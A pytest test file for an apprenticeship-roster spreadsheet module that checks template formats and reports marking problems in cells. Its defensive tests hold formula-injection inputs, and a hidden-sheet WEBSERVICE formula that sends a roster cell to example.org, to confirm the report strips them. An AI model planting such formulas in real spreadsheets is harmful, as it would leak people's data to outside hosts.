"""The template to fill in, and the file given back with its problems in it."""

import io
import os
import zipfile
from datetime import date, datetime
from typing import Any

import django
import openpyxl
import pytest
import xlsxwriter
from django.utils import translation

from jiangtu.apprenticeships.rules.roster import words
from jiangtu.apprenticeships.rules.roster.columns import ROSTER
from jiangtu.apprenticeships.rules.roster.problems import problem
from jiangtu.competences.rules.levels import LEVELS, parse_level
from jiangtu.core.verdict import Refused
from jiangtu.demo import samples
from jiangtu.people.rules import documents
from jiangtu.sheets import template, workbook
from jiangtu.sheets.rules import values

PROBLEMS = [
    problem(2, "name", "name_missing"),
    problem(2, "current_level", "level_missing"),
    problem(3, "contract_to", "contract_not_covering", {"have": date(2025, 5, 1), "need": date(2026, 3, 31)}),
    problem(3, "contract_to", "date_invalid", {"have": "=1+1"}),
]


@pytest.fixture(autouse=True)
def english() -> Any:
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "jiangtu.config.settings")
    django.setup()
    with translation.override("en"):
        yield


def opened(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_the_template_is_understood_by_the_reader() -> None:
    book = opened(template.blank(ROSTER))
    assert [sheet.sheet_state for sheet in book] == ["visible", "hidden"]
    header = [cell.value for cell in book.worksheets[0][1]]
    assert ROSTER.places(header) == {key: place for place, key in enumerate(ROSTER.keys)}
    with pytest.raises(Refused, match="file_empty"):
        workbook.read(template.blank(ROSTER), "t.xlsx", ROSTER)
    assert template.blank(ROSTER) == template.blank(ROSTER)


def test_every_choice_of_the_template_is_understood() -> None:
    assert [documents.kind_of(word) for word in ROSTER.by_key["id_type"].choices] == list(documents.NAMES)
    assert [parse_level(word) for word in ROSTER.by_key["current_level"].choices] == [level.key for level in LEVELS]
    assert [words.intake(word) for word in ROSTER.by_key["intake"].choices] == ["new_hire", "transferred"]
    assert [values.yes(word) for word in ROSTER.by_key["full_time_student"].choices] == [False, True]


def test_numbers_and_phones_are_text_in_the_template_so_that_no_digit_is_lost() -> None:
    sheet = opened(template.blank(ROSTER)).worksheets[0]
    columns = zip(ROSTER.keys, "ABCDEFGHIJKL", strict=True)
    formats = {key: sheet.column_dimensions[letter].number_format for key, letter in columns}
    assert {formats[key] for key in ("resident_id", "phone", "enterprise")} == {"@"}
    rules = sheet.data_validations.dataValidation
    assert {str(found.sqref) for found in rules if found.type == "date"} == {"E2:E100001", "F2:F100001"}
    lists = {str(found.sqref): found.formula1 for found in rules if found.type == "list"}
    assert set(lists) == {"B2:B100001", "G2:G100001", "H2:H100001", "I2:I100001"}


def test_the_report_is_the_same_file_with_the_problems_in_its_cells() -> None:
    original = samples.xlsx(samples.good_rows())
    sheet = opened(template.report_workbook(original, "r.xlsx", PROBLEMS, ROSTER)).worksheets[0]
    before = opened(original).worksheets[0]
    assert [[cell.value for cell in row[:12]] for row in sheet.iter_rows()] == [
        [c.value for c in row[:12]] for row in before.iter_rows()
    ]
    assert "The name is missing" in sheet["A2"].comment.text
    assert sheet["A2"].fill.fgColor.rgb != sheet["H2"].fill.fgColor.rgb != "00000000"
    assert sheet["F3"].fill.fgColor.rgb == sheet["A2"].fill.fgColor.rgb  # the error outweighs the warning
    assert sheet["M1"].value == template.PROBLEMS_HEADER
    assert sheet["M2"].value.startswith("姓名：The name is missing")
    assert "\n现技能等级：" in sheet["M2"].value
    assert sheet["M4"].value is None


def test_a_report_can_be_mended_and_sent_in_again() -> None:
    first = template.report_workbook(samples.xlsx(samples.good_rows()), "r.xlsx", PROBLEMS, ROSTER)
    assert len(workbook.read(first, "r.xlsx", ROSTER).lines) == len(samples.good_rows())
    second = opened(template.report_workbook(first, "r.xlsx", PROBLEMS[:1], ROSTER)).worksheets[0]
    assert second.max_column == 13
    assert second["M2"].value
    assert not second["M3"].value


def test_a_csv_comes_back_as_a_workbook() -> None:
    content = samples.gb18030(samples.good_rows())
    sheet = opened(template.report_workbook(content, "r.csv", PROBLEMS, ROSTER)).worksheets[0]
    before = workbook.grid(content, "r.csv", ROSTER).rows()[0]
    assert ROSTER.places([cell.value for cell in sheet[1]]) == ROSTER.places(before)
    assert sheet.cell(2, 13).value.startswith("姓名：")


@pytest.mark.parametrize("name", ["r.csv", "r.xlsx"])
def test_nothing_is_handed_on_as_a_formula(name: str) -> None:
    wild = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://example.org","x")']
    rows = [[column.title for column in ROSTER.columns], *([word, "", "1", "2", "3", "4"] + [""] * 6 for word in wild)]
    if name == "r.csv":
        content = "\n".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows).encode()
    else:
        target = io.BytesIO()
        book = xlsxwriter.Workbook(target, {"in_memory": True})
        sheet = book.add_worksheet()
        for line, row in enumerate(rows):
            for place, cell in enumerate(row):
                if cell.startswith("="):
                    sheet.write_formula(line, place, cell, None, "=cmd")
                elif cell:
                    sheet.write_string(line, place, cell)
        sheet.write_url(1, 1, "http://example.org")
        book.close()
        content = target.getvalue()
    report = template.report_workbook(content, name, PROBLEMS, ROSTER)
    cells = [cell for row in opened(report).worksheets[0].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    with zipfile.ZipFile(io.BytesIO(report)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_dates_stay_dates_in_the_report() -> None:
    sheet = opened(template.report_workbook(samples.xlsx(samples.good_rows()), "r.xlsx", [], ROSTER)).worksheets[0]
    assert sheet["E2"].value == datetime(2025, 3, 1)


def test_a_number_that_is_no_day_comes_back_as_it_was_typed_and_not_as_signs() -> None:
    rows = [{**samples.good_rows()[0], "contract_from": 20250301, "contract_to": 46112}]
    sheet = opened(template.report_workbook(samples.xlsx(rows), "r.xlsx", [], ROSTER)).worksheets[0]
    assert (sheet["E2"].value, sheet["E2"].number_format) == (20250301, "0")
    assert sheet["F2"].value == datetime(2026, 3, 31)


def test_what_other_sheets_and_names_hold_does_not_travel_on() -> None:
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"in_memory": True})
    sheet, other = book.add_worksheet("名单"), book.add_worksheet("别的")
    for line, row in enumerate(samples.good_rows()[:2], start=1):
        sheet.write_row(0, 0, [column.title for column in ROSTER.columns])
        sheet.write_row(line, 0, [str(row[key]) for key in ROSTER.keys])
    other.write_formula("A1", '=WEBSERVICE("http://example.org/"&名单!C2)')
    other.write_string("A2", "secret of another")
    other.hide()
    book.define_name("总数", '=WEBSERVICE("http://example.org/")')
    sheet.set_header("&Lheader of a stranger")
    book.close()
    report = template.report_workbook(target.getvalue(), "r.xlsx", PROBLEMS, ROSTER)
    with zipfile.ZipFile(io.BytesIO(report)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for word in ("example.org", "WEBSERVICE", "secret of another", "definedName", "header of a stranger", "<f>"):
        assert [name for name, part in parts.items() if word.encode() in part] == [], word
    assert opened(report).sheetnames == [ROSTER.sheet, template.LIST_SHEET]
